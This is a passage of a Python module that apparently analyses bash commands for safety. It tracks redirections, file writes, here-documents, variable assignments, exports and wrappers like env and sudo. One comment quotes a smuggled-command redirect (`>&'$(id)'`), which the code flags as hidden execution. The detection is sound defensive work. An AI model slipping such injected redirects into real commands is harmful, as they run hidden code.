        if node.type == "heredoc_redirect":
            self.heredoc(node)
        if node.type != "file_redirect" or not targets:
            return
        target = targets[0]
        value = _value(target)
        if operator in (">&", "<&") and any(mark in _text(target) for mark in "$`"):
            # bash expands a `>&` target ignoring its quotes: `>&'$(id)'` runs id
            self.unsafe.append(f"`{_text(node)}` expands its target as code")
            self.hidden.append(_text(node))
        if operator in ("<", "<&"):
            return
        if operator == ">&" and (target.type == "number" or value == "-"):
            return  # `>&2`: duplicates a descriptor, writes no file
        if (operator in _WRITES or operator == ">&") and value != "/dev/null":
            self.writes.append(value if value is not None else _text(target))


def _escaped(source: bytes, at: int) -> bool:
    """Whether the byte at ``at`` follows an odd number of backslashes."""
    count = 0
    while at - count - 1 >= 0 and source[at - count - 1] == 0x5C:
        count += 1
    return count % 2 == 1


def _starts_comment(source: bytes, at: int) -> bool:
    """Whether bash starts a comment at the ``#`` at ``at``: at the start of a word, after a
    blank or an operator that no backslash escapes, line continuations (removed first) aside."""
    while at >= 2 and source[at - 1] == 0x0A and _escaped(source, at - 1):
        at -= 2  # a backslash-newline: bash removes it before reading words
    if at == 0:
        return True
    return bytes([source[at - 1]]) in _WORD_ENDS and not _escaped(source, at - 1)


def _ends(node: Any, start: Any, end: Any) -> bool:
    """Whether the here-document ``node`` ends as bash ends it: a line that is exactly its
    delimiter (``<<-``: after tabs only)."""
    if end is None or _text(end) != _unquoted(start):
        return False
    source = _SOURCE.get()
    line = source.rfind(b"\n", 0, end.start_byte) + 1
    before = source[line : end.start_byte]
    dash = any(c.type == "<<-" for c in node.children)
    return not before.strip(b"\t") if dash else not before


def _unquoted(node: Any) -> str:
    """A here-document delimiter as bash compares it: its quotes and backslashes removed."""
    return re.sub(r"""['"\\]""", "", _text(node))


def _text(node: Any) -> str:
    return _SOURCE.get()[node.start_byte : node.end_byte].decode("utf-8", "replace")


_ESCAPED = re.compile(r"\\(.)", re.DOTALL)
_QUOTED_ESCAPE = re.compile(r"\\([\\$`\"\n])")


def _declared(node: Any) -> list[Variable]:
    """The variables an assignment (``A=1``, ``A+=x``), several of them, or a declaration
    (``export A=1 B``, ``unset A``) sets: a bare name's value is unknown (``export B`` exports
    what ``B`` holds then, ``unset A`` removes it), as is one a flag changes (``declare -i``)."""
    if node.type == "variable_assignment":
        name = node.child_by_field_name("name")
        value = node.child_by_field_name("value")
        appends = any(c.type == "+=" for c in node.children)
        known = "" if value is None else _value(value)
        return [Variable(_text(name) if name is not None else "", None if appends else known)]
    found: list[Variable] = []
    flagged = any(_text(c).startswith(("-", "+")) for c in node.named_children)
    for child in node.named_children:
        if child.type in ("variable_assignment", "variable_assignments"):
            inner = _declared(child)
            found += [Variable(v.name, None) for v in inner] if flagged else inner
        elif child.type in ("variable_name", "word") and not _text(child).startswith(("-", "+")):
            found.append(Variable(_text(child) if child.type == "variable_name" else "", None))
        elif child.type not in ("variable_name", "word"):
            found.append(Variable("", None))  # a computed name
    return found


_PLAIN_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")


def _unexported(variables: list[Variable]) -> list[Variable]:
    """``variables`` as shell variables only assigned, not exported (:attr:`Variable.exported`)."""
    return [Variable(v.name, v.value, exported=False) if v.name else v for v in variables]


def _exports(node: Any) -> bool:
    """Whether a declaration may change the environment of the commands after it: ``export``,
    ``declare -x``/``typeset -x``, and ``unset`` (which removes an exported one); ``local A=1``,
    ``readonly A``, ``declare A`` only assign (when ``A`` was not exported already)."""
    text = _text(node)
    word = text.split(maxsplit=1)[0] if text.split() else ""
    if word in ("unset", "export"):
        return True
    return bool(re.search(r"(?:^|\s)[-+][A-Za-z]*x", text))


_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=", re.DOTALL)


def wrapper_environment(words: tuple[str | None, ...]) -> tuple[list[Variable], bool]:
    """The variables a wrapper's words set for the command behind it (``env A=1``,
    ``sudo A=1``; ``env -u A``, ``env -i``: known only when it runs) and whether it moves
    that command to another folder."""
    name = (words[0] or "").rsplit("/", 1)[-1] if words else ""
    found: list[Variable] = []
    moves = name == "chroot"
    for word in words[1:]:
        if word is None:
            continue
        if _ASSIGNMENT.match(word):
            variable, _, value = word.partition("=")
            found.append(Variable(variable, value))
        elif word.startswith("--"):
            option = word[2:].partition("=")[0]
            moves = moves or option in ("chdir", "login")
            if name == "env" and option in ("unset", "ignore-environment"):
                found.append(Variable("", None))
        elif word.startswith("-"):
            letters = word[1:]
            if name == "env":
                moves = moves or "C" in letters
                if not letters or "u" in letters or "i" in letters:  # `env -`, `-u A`, `-i`
                    found.append(Variable("", None))
            elif name == "sudo":
                moves = moves or "D" in letters or "i" in letters
    return found, moves


def _read_names(args: Sequence[str | None]) -> list[Variable]:
    """The shell variables ``read``, ``mapfile`` or ``printf -v`` may set, from its words: each
    word that is a plain name (an option's value taken for one only widens what counts), or one
    known only when it runs when a word is computed or not a plain name (``a[$(…)]``)."""
    found: list[Variable] = []
    for word in args:
        if word is None:
            return [Variable("", None)]
        if word.startswith("-"):
            continue
        if not _PLAIN_NAME.fullmatch(word):
            if "[" in word:
                return [Variable("", None)]
            continue  # a prompt, delimiter or format: no name
        found.append(Variable(word, None, exported=False))
    return found


def _value(node: Any) -> str | None:
    """A word's value with quotes and escapes removed, or ``None`` when only running it tells
    (an expansion, a substitution, a glob or brace pattern)."""
    kind = node.type
    text = _text(node)
    if kind == "word":
        if _GLOB.search(text):
            return None
        return _ESCAPED.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), text)
    if kind == "number":
        return text
    if kind == "raw_string":
        return text[1:-1]
    if kind == "string":
        pieces: list[str] = []
        for child in node.named_children:
            if child.type != "string_content":
                return None
            pieces.append(
                _QUOTED_ESCAPE.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), _text(child))
            )
        return "".join(pieces)
    if kind == "concatenation":
        values = [_value(child) for child in node.named_children]
        if any(v is None for v in values) or len(node.named_children) != len(node.children):
            return None
        return "".join(v for v in values if v is not None)
    return None
